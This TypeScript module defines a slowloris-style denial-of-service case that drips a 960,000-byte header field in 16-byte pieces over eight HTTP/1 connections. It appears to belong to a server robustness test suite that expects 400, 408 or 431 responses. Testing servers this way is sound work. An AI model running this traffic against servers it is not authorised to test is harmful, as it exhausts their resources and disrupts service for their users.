// A long field in small pieces: what a parser has of it is copied with each of them, unless something waits for more.

import type { Attack } from '../attack.ts'
import { attackHttp1, head1 } from '../wire/http1.ts'

const PIECES = 60_000

export const attack: Attack = {
  reference: 'slowloris, quadratic buffering (CWE-407)',
  does: 'sends a field of 960,000 bytes in pieces of 16 bytes',
  who: ['known', 'unknown'],
  answers: ['400', '408', '431'],
  run: (target, signal) => {
    const begin = Buffer.concat([head1(target, 'GET /version').subarray(0, -2), Buffer.from('X-A: ')])
    const piece = Buffer.alloc(16, 'y')
    return attackHttp1(target, signal, { connections: 8 }, () => {
      let sent = 0
      return { next: () => (sent++ === 0 ? begin : sent <= PIECES ? piece : undefined) }
    })
  },
}
